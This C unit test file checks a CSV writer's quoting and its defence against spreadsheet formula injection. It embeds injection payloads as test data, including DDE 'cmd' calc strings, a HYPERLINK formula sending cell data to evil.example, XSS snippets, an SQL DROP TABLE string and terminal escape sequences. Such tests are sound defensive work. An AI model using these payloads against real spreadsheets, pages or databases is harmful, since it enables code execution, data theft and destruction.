/* Writing CSV: what comes back when it is read, and what a spreadsheet must not take for a formula. */
#include <check.h>
#include <stdlib.h>
#include <string.h>

#include "auditproof/csv.h"
#include "auditproof/csv_write.h"

static struct ap_buf out;
static struct ap_csv_row row;

static void free_all(void)
{
    ap_buf_free(&out);
    ap_buf_free(&row.plain);
}

START_TEST(quotes_every_field)
{
    static const char *const header[] = {"seq", "action", NULL};

    ap_csv_put_record(&out, header);
    ap_csv_put_int(&out, 17);
    ap_csv_put(&out, "login");
    ap_csv_end(&out);
    ap_csv_put(&out, NULL);
    ap_csv_put_n(&out, "", 0);
    ap_csv_end(&out);
    ap_csv_put_int(&out, INT64_MIN);
    ap_csv_put_time(&out, INT64_C(1795362374123456));
    ap_csv_end(&out);
    ck_assert_str_eq(ap_buf_str(&out), "\"seq\",\"action\"\r\n\"17\",\"login\"\r\n\"\",\"\"\r\n"
                                       "\"-9223372036854775808\",\"2026-11-22T15:46:14.123456Z\"\r\n");
}
END_TEST

/* Texts that an application may log, and nothing that computes, marks up or commands a terminal may come of. */
static const char *const hostile[] = {
    "=cmd|'/c calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+1",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\xef\xbc\x9d"
    "1+1",
    "\xef\xbc\x8b"
    "1",
    "\xef\xbc\x8d"
    "1",
    "\xef\xbc\xa0"
    "A1",
};

static const char *const harmless[] = {
    "\"",
    "\"\"",
    "a\"b",
    "a,b",
    "a;b",
    "a\r\nb",
    "\",=1+1,\"",
    "'=1+1",
    " =1+1",
    "1-1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\033]0;title\007\033[31mred",
    "caf\303\251 \360\237\230\200",
    "\xe2\x80\xaegnp.exe",
    "'; DROP TABLE user_activity_logs; --",
    "",
};

/* What is read back of a record that is a field between two others. */
static void read_back(const char *text)
{
    struct ap_csv_scan scan = {0};
    size_t len, next;
    struct ap_error err;

    ap_buf_clear(&out);
    ap_csv_put(&out, "before");
    ap_csv_put(&out, text);
    ap_csv_put(&out, "after");
    ap_csv_end(&out);
    ck_assert(ap_csv_scan(&scan, out.data, out.len, &len, &next));
    ck_assert_uint_eq(next, out.len);
    ck_assert_uint_eq(len, out.len - 2);
    ck_assert_mem_eq(out.data + len, "\r\n", 2);
    ck_assert_int_eq(ap_csv_parse(&row, out.data, len, NULL, &err), AP_OK);
    ck_assert_uint_eq(row.count, 3);
    ck_assert(row.fields[1].quoted);
}

START_TEST(formulas_get_an_apostrophe)
{
    for (size_t i = 0; i < sizeof hostile / sizeof hostile[0]; i++) {
        read_back(hostile[i]);
        ck_assert_uint_eq(row.fields[1].len, strlen(hostile[i]) + 1);
        ck_assert_int_eq(row.fields[1].text[0], '\'');
        ck_assert_mem_eq(row.fields[1].text + 1, hostile[i], strlen(hostile[i]));
    }
}
END_TEST

START_TEST(the_rest_stays_as_it_is)
{
    for (size_t i = 0; i < sizeof harmless / sizeof harmless[0]; i++) {
        read_back(harmless[i]);
        ck_assert_uint_eq(row.fields[1].len, strlen(harmless[i]));
        ck_assert_mem_eq(row.fields[1].text, harmless[i], strlen(harmless[i]));
    }
}
END_TEST

START_TEST(every_character_comes_back)
{
    char text[2];

    for (int first = 1; first < 128; first++)
        for (int second = 1; second < 128; second++) {
            struct ap_error err;

            text[0] = (char)first;
            text[1] = (char)second;
            ap_buf_clear(&out);
            ap_csv_put_n(&out, text, 2);
            ck_assert_int_eq(ap_csv_parse(&row, out.data, out.len, NULL, &err), AP_OK);
            ck_assert_uint_eq(row.count, 1);
            ck_assert_uint_le(row.fields[0].len, 3);
            ck_assert_mem_eq(row.fields[0].text + row.fields[0].len - 2, text, 2);
        }
}
END_TEST

int main(void)
{
    Suite *suite = suite_create("csv_write");
    TCase *tc = tcase_create("core");
    SRunner *runner = srunner_create(suite);
    int failed;

    tcase_add_checked_fixture(tc, NULL, free_all);
    tcase_add_test(tc, quotes_every_field);
    tcase_add_test(tc, formulas_get_an_apostrophe);
    tcase_add_test(tc, the_rest_stays_as_it_is);
    tcase_add_test(tc, every_character_comes_back);
    suite_add_tcase(suite, tc);
    srunner_run_all(runner, CK_NORMAL);
    failed = srunner_ntests_failed(runner);
    srunner_free(runner);
    return failed == 0 ? EXIT_SUCCESS : EXIT_FAILURE;
}
